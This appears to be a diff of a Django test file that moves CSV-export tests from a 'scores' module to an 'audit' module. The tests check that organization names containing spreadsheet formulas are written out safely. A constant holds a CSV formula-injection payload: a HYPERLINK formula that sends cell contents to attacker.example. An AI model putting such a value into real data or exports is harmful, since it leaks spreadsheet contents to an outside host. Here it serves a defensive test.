@@ -14,10 +14,10 @@ import time_machine
 from django.urls import reverse
 
 from accounts.models import Organization
+from audit.csv_download import csv_cell, csv_decimal
+from audit.services.usage import usage_summarize
 from conftest import EXAMPLE_CPF
 from scoreportal.error_codes import ErrorCode
-from scores.csv_download import csv_cell, csv_decimal
-from scores.services.usage import usage_summarize
 
 NOW = datetime(2026, 11, 22, 18, 0, tzinfo=UTC)
 HOSTILE_NAME = '=HYPERLINK("https://attacker.example/x?d="&A2&B2,"Banco")'
@@ -102,7 +102,7 @@ def test_if_an_organization_is_named_with_a_formula_then_the_usage_csv_writes_it
     auditor_client, hostile
 ):
     response = auditor_client.get(
-        reverse("admin:scores_usagereport_changelist"),
+        reverse("admin:audit_usagereport_changelist"),
         {"since": "2026-11-01", "until": "2026-11-22", "organization": "", "format": "csv"},
     )
 
@@ -114,7 +114,7 @@ def test_if_an_organization_is_named_with_a_formula_then_the_cpf_report_csv_writ
     auditor_client, hostile
 ):
     response = auditor_client.post(
-        reverse("admin:scores_cpfreport_changelist"),
+        reverse("admin:audit_cpfreport_changelist"),
         {"cpf": EXAMPLE_CPF, "since": "2026-11-01", "until": "2026-11-22", "output": "csv"},
     )
 
